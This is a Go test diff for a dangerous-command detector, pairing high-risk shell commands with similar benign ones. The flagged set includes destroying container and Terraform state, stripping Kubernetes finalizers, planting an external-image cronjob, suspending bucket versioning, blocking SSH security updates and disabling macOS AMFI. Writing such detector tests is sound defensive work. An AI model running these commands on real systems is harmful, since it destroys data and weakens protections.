@@ -491,3 +491,32 @@ func TestPowerShellPosixHabitsAndPackageCaches(t *testing.T) {
 		`Remove-Item -Recurse -Force $env:USERPROFILE\.cargo\registry\cache\index.crates.io-0000\serde-1.0.0.crate`,
 	})
 }
+
+func TestStateProtectionsAndForeignWorkloads(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`podman pod rm -af`, CategoryContainerDestroy, "orchestrator-teardown", LevelHigh},
+		{`podman volume rm --all`, CategoryContainerDestroy, "", LevelHigh},
+		{`kubectl patch namespace billing -p '{"metadata":{"finalizers":null}}' --type=merge`, CategoryContainerDestroy, "k8s-finalizers-removed", LevelHigh},
+		{`kubectl create cronjob beacon --image=cdn.example.net/b:1 --schedule='*/10 * * * *'`, CategoryPersistence, "k8s-foreign-workload", LevelHigh},
+		{`aws s3api delete-object --bucket infra-state --key network/terraform.tfstate`, CategoryCloudDestroy, "iac-state-destroy", LevelHigh},
+		{`terraform force-unlock -force 6f1c`, CategoryCloudDestroy, "iac-state-destroy", LevelHigh},
+		{`aws s3api put-bucket-versioning --bucket ledger --versioning-configuration Status=Suspended`, CategoryCloudDestroy, "bucket-protection-off", LevelHigh},
+		{`sudo apt-mark hold openssh-server`, CategorySystem, "security-updates-blocked", LevelHigh},
+		{`sudo dnf downgrade sudo`, CategorySystem, "security-updates-blocked", LevelHigh},
+		{`sudo nvram boot-args="amfi_get_out_of_my_way=1"`, CategorySystem, "security-updates-blocked", LevelHigh},
+		{`rm -rf ~/.cache/huggingface`, CategoryFileDelete, "", LevelModerate},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`podman pod rm web-pod`,
+		`kubectl get ns billing -o jsonpath='{.spec.finalizers}'`,
+		`kubectl create cronjob report --image=ghcr.io/acme/report:1.4 --schedule='0 6 * * *'`,
+		`kubectl run tmp --image=busybox --rm -it --restart=Never -- sh`,
+		`aws s3 cp s3://infra-state/network/terraform.tfstate ./state-backup.tfstate`,
+		`terraform state list`,
+		`aws s3api get-bucket-versioning --bucket ledger`,
+		`sudo apt-mark hold nodejs`,
+		`nvram -p`,
+		`rm -rf ~/.cache/huggingface/hub/models--gpt2`,
+	})
+}
